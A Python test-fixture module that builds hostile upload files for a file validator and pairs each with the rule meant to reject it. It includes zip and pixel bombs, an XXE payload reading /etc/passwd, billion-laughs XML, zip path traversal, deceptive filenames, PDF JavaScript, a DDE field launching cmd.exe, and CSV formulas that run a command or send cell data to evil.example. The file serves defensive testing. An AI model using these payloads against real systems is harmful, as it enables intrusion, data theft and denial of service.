"""Hostile files, made here: each with the name it is sent under and the rule that must stop it."""

import struct
import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

from PIL import Image

from core.lib.files import Rule
from tests.core.uploads import harmless as make
from tests.core.uploads.hostile_pdf import (
    eicar_in_pdf,
    eicar_in_pdf_without_type,
    pdf_attachment,
    pdf_deep_javascript,
    pdf_five_deep,
    pdf_form_of_xml,
    pdf_hidden_javascript,
    pdf_javascript,
    pdf_launch,
    pdf_locked,
    pdf_with_attached,
    pdf_with_many_attachments,
    pdf_without_pages,
)
from tests.core.uploads.marks import EICAR, PROGRAM

MB = 1024 * 1024
XXE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><l>&c;</l>'
)


def zip_bomb(kind="docx"):
    return make.open_xml(kind, more={"word/media/a.bin": bytes(60 * MB)})


def zip_bomb_of_many():
    return make.open_xml(more={f"word/{number}.bin": bytes(4 * MB) for number in range(60)})


def zip_of_many_entries():
    return make.open_xml(more={f"word/{number}": b"" for number in range(6_000)})


def zip_with_false_size():
    data = bytearray(make.open_xml(more={"word/last.bin": bytes(8 * MB)}))
    for mark, at in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        place = data.rfind(mark)
        struct.pack_into("<I", data, place + at, 10)
    return bytes(data)


def zip_with_shared_bytes():
    """Two directory entries that point at the same bytes."""
    buffer = BytesIO()
    with ZipFile(buffer, "w", ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("a.bin", bytes(MB))
        archive.writestr("b.bin", bytes(MB))
        archive.infolist()[2].header_offset = archive.infolist()[1].header_offset
    return buffer.getvalue()


def zip_entry_named(name, **attributes):
    buffer = BytesIO()
    with ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        entry = ZipInfo(name)
        for key, value in attributes.items():
            setattr(entry, key, value)
        archive.writestr(entry, "x")
    return buffer.getvalue()


def zip_locked():
    data = bytearray(make.open_xml())
    for mark, at in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        place = data.find(mark)
        data[place + at] |= 1
    return bytes(data)


def word_rules(more=None, text="Kế hoạch", **options):
    return make.open_xml(text=text, more=more, **options)


def word_relation(kind, target="http://evil.example/x"):
    return make.open_xml(more={"word/_rels/document.xml.rels": make.relations((kind, target, True))})


def word_field(code):
    field = f'<w:r><w:instrText xmlns:w="{make.W}">{code}</w:instrText></w:r>'
    return make.open_xml(text=f"x</w:t></w:r>{field}<w:r><w:t>")


def word_deep():
    return make.open_xml(more={"word/deep.xml": "<a>" * 5_000 + "</a>" * 5_000})


def png_bomb(edge=20_000):
    header = make.png_chunk(b"IHDR", struct.pack(">IIBBBBB", edge, edge, 8, 2, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n"
        + header
        + make.png_chunk(b"IDAT", zlib.compress(bytes(1000)))
        + make.png_chunk(b"IEND", b"")
    )


def cut(data, share=0.6):
    return data[: int(len(data) * share)]


def gif_with_script():
    return make.picture("GIF", mode="P") + b"<script>alert(1)</script>"


def jpeg_with_pdf():
    """A comment right behind the start of the picture holds a PDF header, which readers look for in 1,024 bytes."""
    data = make.picture("JPEG")
    comment = b"%PDF-1.4\n1 0 obj<<>>endobj"
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + data[2:]


def doc_with(*names):
    return make.ole(("WordDocument", struct.pack("<H8xH", 0xA5EC, 0) + bytes(500)), *((name, b"x") for name in names))


def svg(inner, head=b""):
    return (
        head
        + b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">'
        + inner
        + b"</svg>"
    )


def large_webp():
    buffer = BytesIO()
    Image.new("RGB", (4000, 4000)).save(buffer, "WEBP")
    return buffer.getvalue()


def gif_with_archive():
    return make.picture("GIF", mode="P") + make.zipped({"a": "x"})


def zip_with_false_sum():
    return make.zipped({"[Content_Types].xml": "x" * 50}, ZIP_STORED).replace(b"xxx", b"yyy", 1)


def film_with_false_box():
    return make.mp4().replace(struct.pack(">I", 72) + b"mdat", struct.pack(">I", 5) + b"mdat")


def odf_locked():
    return make.open_document(more={"META-INF/manifest.xml": "<encryption-data/>"})


def odf_with_outside_picture():
    return make.open_document(text='<draw:image xlink:href="http://evil.example/p"/>')


def word_of_macro_type():
    return word_rules(types="application/vnd.ms-word.document.macroEnabled.main")


def word_with_marked_header():
    return word_rules({"word/header1.xml": f'<w:p xmlns:w="{make.W}"><w:t>Lưu hành nội bộ</w:t></w:p>'})


def excel_4_macros():
    return make.open_xml("xlsx", more={"xl/macrosheets/sheet1.xml": "<a/>"})


def old_excel_macros():
    return make.xls(struct.pack("<HHIBB", 0x85, 8, 0, 0, 1) + b"\x00\x00")


def eicar_two_deep():
    return make.open_xml(more={"word/embeddings/b.docx": make.open_xml(more={"word/c.txt": EICAR})})


# name of the file, what makes its bytes, the rule that stops it
REFUSED = {
    "empty": ("a.txt", lambda: b"", Rule.EMPTY),
    "too large text": ("a.svg", lambda: make.SVG + bytes(3 * MB), Rule.TOO_LARGE),
    "too large picture": ("a.png", lambda: bytes(21 * MB), Rule.TOO_LARGE),
    "no extension": ("README", lambda: b"x", Rule.NO_EXTENSION),
    "hidden file": (".htaccess", lambda: b"x", Rule.NO_EXTENSION),
    "program": ("a.exe", lambda: PROGRAM, Rule.EXTENSION),
    "script": ("a.php", lambda: b"<?php", Rule.EXTENSION),
    "page": ("a.html", lambda: b"<html>", Rule.EXTENSION),
    "macro document by name": ("a.docm", make.open_xml, Rule.EXTENSION),
    "archive": ("a.zip", lambda: make.zipped({"a": "b"}), Rule.EXTENSION),
    "rich text": ("a.rtf", lambda: b"{\\rtf1}", Rule.EXTENSION),
    "trailing dot": ("a.exe.", lambda: PROGRAM, Rule.EXTENSION),
    "fullwidth dot": ("a．pdf", make.pdf, Rule.NO_EXTENSION),
    "double extension": ("hoa-don.exe.pdf", make.pdf, Rule.DOUBLE_EXTENSION),
    "double extension of a server": ("shell.php.jpg", lambda: make.picture("JPEG"), Rule.DOUBLE_EXTENSION),
    "double extension in capitals": ("shell.PHP5.Png", make.picture, Rule.DOUBLE_EXTENSION),
    "reversed name": ("anh\u202egpj.exe.png", make.picture, Rule.DECEPTIVE_NAME),
    "null in the name": ("a.php\x00.png", make.picture, Rule.DECEPTIVE_NAME),
    "newline in the name": ("a\r\nX-Evil: 1.png", make.picture, Rule.DECEPTIVE_NAME),
    "program as a picture": ("a.png", lambda: PROGRAM, Rule.CONTENT),
    "program as text": ("a.txt", lambda: PROGRAM, Rule.CONTENT),
    "page as text": ("a.txt", lambda: b"  <!DOCTYPE html><script>1</script>", Rule.CONTENT),
    "page as a table": ("a.csv", lambda: b"\xef\xbb\xbf<html>", Rule.CONTENT),
    "PDF as a Word file": ("a.docx", make.pdf, Rule.CONTENT),
    "picture as a PDF": ("a.pdf", make.picture, Rule.CONTENT),
    "PNG as a JPEG": ("a.jpg", make.picture, Rule.CONTENT),
    "Excel as Word": ("a.docx", lambda: make.open_xml("xlsx"), Rule.CONTENT),
    "plain archive as Word": ("a.docx", lambda: make.zipped({"a.txt": "x"}), Rule.CONTENT),
    "text table as an ODF text": ("a.odt", lambda: make.open_document("ods"), Rule.CONTENT),
    "old Word as old Excel": ("a.xls", make.doc, Rule.CONTENT),
    "page before a PDF": ("a.pdf", lambda: b"<script>1</script>" + make.pdf(), Rule.CONTENT),
    "film as sound": ("a.m4a", make.mp4, Rule.CONTENT),
    "Matroska as WebM": ("a.webm", lambda: make.webm(b"matroska"), Rule.CONTENT),
    "XML that is a page": ("a.xml", lambda: b'<html xmlns="http://www.w3.org/1999/xhtml"/>', Rule.CONTENT),
    "XML that is a drawing": ("a.xml", lambda: make.SVG, Rule.CONTENT),
    "SVG that is something else": ("a.svg", lambda: b"<svg/>", Rule.CONTENT),
    "control bytes in text": ("a.txt", lambda: b"abc\x00\x01def", Rule.CONTENT),
    "text in an old code page": ("a.txt", lambda: "Cải cách".encode()[:-1] + b"\xb8\xb5", Rule.ENCODING),
    "archive behind a PDF": ("a.pdf", lambda: make.pdf() + make.zipped({"a.class": "x"}), Rule.POLYGLOT),
    "archive behind a picture": (
        "a.gif",
        gif_with_archive,
        Rule.POLYGLOT,
    ),
    "archive behind a film": ("a.mp4", lambda: make.mp4() + make.zipped({"a": "x"}), Rule.POLYGLOT),
    "PDF inside a picture": ("a.jpg", jpeg_with_pdf, Rule.POLYGLOT),
    "program behind an archive": ("a.docx", lambda: make.open_xml() + PROGRAM, Rule.POLYGLOT),
    "bytes before the archive": ("a.docx", lambda: b"PK\x03\x04" + bytes(40) + make.open_xml(), Rule.POLYGLOT),
    "PDF cut off": ("a.pdf", lambda: cut(make.pdf()), Rule.BROKEN),
    "PDF without pages": ("a.pdf", pdf_without_pages, Rule.BROKEN),
    "PDF of noise": ("a.pdf", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 20, Rule.BROKEN),
    "Word cut off": ("a.docx", lambda: cut(make.open_xml()), Rule.BROKEN),
    "Word with a false sum": (
        "a.docx",
        zip_with_false_sum,
        Rule.BROKEN,
    ),
    "Word with broken XML": ("a.docx", lambda: make.open_xml(text="<w:p>"), Rule.BROKEN),
    "old Word of noise": ("a.doc", lambda: make.doc()[:8] + bytes(range(256)) * 8, Rule.BROKEN),
    "PNG cut off": ("a.png", lambda: cut(make.picture(size=(400, 400))), Rule.BROKEN),
    "JPEG cut off": ("a.jpg", lambda: cut(make.picture("JPEG", size=(400, 400)), 0.4), Rule.BROKEN),
    "film cut off": ("a.mp4", lambda: cut(make.mp4(), 0.9), Rule.BROKEN),
    "film with a tail": ("a.mp4", lambda: make.mp4() + b"<html>", Rule.BROKEN),
    "film without pictures": ("a.mp4", lambda: make.box(b"ftyp", b"isom" * 3), Rule.BROKEN),
    "film whose boxes overlap": (
        "a.mp4",
        film_with_false_box,
        Rule.BROKEN,
    ),
    "WebM with foreign parts": ("a.webm", lambda: make.webm(more=b"<html>"), Rule.BROKEN),
    "sound with a tail": ("a.wav", lambda: make.wav() + bytes(99), Rule.BROKEN),
    "MP3 of text": ("a.mp3", lambda: b"ID3\x04\x00\x00\x00\x00\x00\x00" + b"<script>" * 50, Rule.BROKEN),
    "Ogg cut off": ("a.ogg", lambda: make.ogg()[:-3], Rule.BROKEN),
    "locked PDF": ("a.pdf", pdf_locked, Rule.ENCRYPTED),
    "PDF locked for changes": ("a.pdf", lambda: pdf_locked(user=""), Rule.ENCRYPTED),
    "locked Word": ("a.docx", lambda: make.ole(("EncryptedPackage", b"x")), Rule.ENCRYPTED),
    "locked ZIP": ("a.docx", zip_locked, Rule.ENCRYPTED),
    "locked ODF": (
        "a.odt",
        odf_locked,
        Rule.ENCRYPTED,
    ),
    "locked old Word": ("a.doc", lambda: make.doc(flags=0x0100), Rule.ENCRYPTED),
    "locked old Excel": ("a.xls", lambda: make.xls(struct.pack("<HHH", 0x2F, 2, 0)), Rule.ENCRYPTED),
    "PDF in PDF without end": ("a.pdf", pdf_five_deep, Rule.TOO_COMPLEX),
    "PDF with too many attachments": ("a.pdf", pdf_with_many_attachments, Rule.TOO_COMPLEX),
    "pixel bomb": ("a.png", png_bomb, Rule.PIXELS),
    "pixel bomb of WebP": ("a.webp", large_webp, Rule.PIXELS),
    "pixel bomb of GIF": ("a.gif", lambda: make.picture("GIF", (9_000, 9_000), "P"), Rule.PIXELS),
    "ZIP bomb": ("a.docx", zip_bomb, Rule.BOMB),
    "ZIP bomb of Excel": ("a.xlsx", lambda: zip_bomb("xlsx"), Rule.BOMB),
    "ZIP bomb of many": ("a.docx", zip_bomb_of_many, Rule.BOMB),
    "too many entries": ("a.docx", zip_of_many_entries, Rule.BOMB),
    "entries that share bytes": ("a.docx", zip_with_shared_bytes, Rule.BOMB),
    "false size": ("a.docx", zip_with_false_size, Rule.BROKEN),
    "deep XML": ("a.docx", word_deep, Rule.BOMB),
    "deep XML file": ("a.xml", lambda: b"<a>" * 9_000 + b"</a>" * 9_000, Rule.BOMB),
    "traversal": ("a.docx", lambda: zip_entry_named("../../etc/cron.d/x"), Rule.TRAVERSAL),
    "absolute path": ("a.docx", lambda: zip_entry_named("/etc/passwd"), Rule.TRAVERSAL),
    "link": ("a.docx", lambda: zip_entry_named("a", external_attr=0xA1FF << 16), Rule.TRAVERSAL),
    "entities": ("a.xml", lambda: XXE, Rule.ENTITIES),
    "billion laughs": ("a.xml", lambda: LAUGHS, Rule.ENTITIES),
    "entities in Word": ("a.docx", lambda: make.open_xml(more={"word/x.xml": XXE}), Rule.ENTITIES),
    "entities in ODF": ("a.odt", lambda: make.open_document(more={"styles.xml": LAUGHS}), Rule.ENTITIES),
    "entities in SVG": ("a.svg", lambda: svg(b"&b;", b'<!DOCTYPE svg [<!ENTITY b "x">]>'), Rule.ENTITIES),
}

DOUBTED = {
    "JavaScript": ("a.pdf", pdf_javascript, Rule.ACTIVE),
    "JavaScript spelled in hex": ("a.pdf", pdf_hidden_javascript, Rule.ACTIVE),
    "JavaScript deep inside": ("a.pdf", pdf_deep_javascript, Rule.ACTIVE),
    "launch": ("a.pdf", pdf_launch, Rule.ACTIVE),
    "form of XML": ("a.pdf", pdf_form_of_xml, Rule.ACTIVE),
    "attachment": ("a.pdf", pdf_attachment, Rule.EMBEDDED),
    "PDF in a PDF": ("a.pdf", lambda: pdf_with_attached(make.pdf()), Rule.EMBEDDED),
    "macros": ("a.docx", lambda: word_rules({"word/vbaProject.bin": b"x"}), Rule.MACRO),
    "macros by type": (
        "a.docx",
        word_of_macro_type,
        Rule.MACRO,
    ),
    "macros of Excel 4": (
        "a.xlsx",
        excel_4_macros,
        Rule.MACRO,
    ),
    "macros of ODF": ("a.odt", lambda: make.open_document(more={"Basic/Standard/Module1.xml": "<a/>"}), Rule.MACRO),
    "macros in old Word": ("a.doc", lambda: doc_with("VBA"), Rule.MACRO),
    "macro sheet in old Excel": (
        "a.xls",
        old_excel_macros,
        Rule.MACRO,
    ),
    "template from outside": ("a.docx", lambda: word_relation("attachedTemplate"), Rule.EXTERNAL),
    "object from outside": ("a.docx", lambda: word_relation("oleObject", "mhtml:http://evil.example"), Rule.EXTERNAL),
    "ODF picture from outside": (
        "a.odt",
        odf_with_outside_picture,
        Rule.EXTERNAL,
    ),
    "DDE": ("a.docx", lambda: word_field("DDEAUTO c:\\windows\\system32\\cmd.exe"), Rule.ACTIVE),
    "command in a table": ("a.csv", lambda: b"a,b\n1,=cmd|'/c calc'!A1\n", Rule.ACTIVE),
    "link formula in a table": ("a.csv", lambda: b'=HYPERLINK("http://evil.example?"&A1)\n', Rule.ACTIVE),
    "program in Word": ("a.docx", lambda: word_rules({"word/media/image1.png": PROGRAM}), Rule.EMBEDDED),
    "document in Word": ("a.docx", lambda: word_rules({"word/embeddings/a.docx": make.open_xml()}), Rule.EMBEDDED),
    "object in old Word": ("a.doc", lambda: doc_with("ObjectPool"), Rule.EMBEDDED),
    "marking in the name": ("Quyết định TỐI MẬT.txt", lambda: b"x", Rule.SECRECY),
    "marking in the name without accents": ("bao-cao-tuyet-mat.txt", lambda: b"x", Rule.SECRECY),
    "marking in the name in NFD": ("To\u0302\u0301i ma\u0323\u0302t.txt", lambda: b"x", Rule.SECRECY),
    "marking in text": ("a.txt", lambda: "UBND THÀNH PHỐ\nMẬT\nBáo cáo".encode(), Rule.SECRECY),
    "marking in Word": ("a.docx", lambda: word_rules(text="TUYỆT MẬT"), Rule.SECRECY),
    "marking in a header of Word": (
        "a.docx",
        word_with_marked_header,
        Rule.SECRECY,
    ),
    "marking in PDF": ("a.pdf", lambda: make.pdf("TOI MAT"), Rule.SECRECY),
    "marking in old Word": ("a.doc", lambda: make.doc("\rTỐI MẬT\r"), Rule.SECRECY),
    "marking in ODF": ("a.odt", lambda: make.open_document(text="Độ mật: Mật"), Rule.SECRECY),
}

# Harmless by form, so that only the scanner can stop them.
INFECTED = {
    "EICAR plain": ("a.txt", lambda: EICAR),
    "EICAR in Word": ("a.docx", lambda: make.open_xml(more={"word/media/image1.txt": EICAR})),
    "EICAR in Word in Word": (
        "a.docx",
        eicar_two_deep,
    ),
    "EICAR attached to a PDF": ("a.pdf", eicar_in_pdf),
    "EICAR attached without a type": ("a.pdf", eicar_in_pdf_without_type),
    "EICAR in a PDF in a PDF": ("a.pdf", lambda: pdf_with_attached(eicar_in_pdf())),
    "EICAR in Word in a PDF": ("a.pdf", lambda: pdf_with_attached(eicar_two_deep())),
    "EICAR in ODF": ("a.odt", lambda: make.open_document(more={"Pictures/a.txt": EICAR})),
}
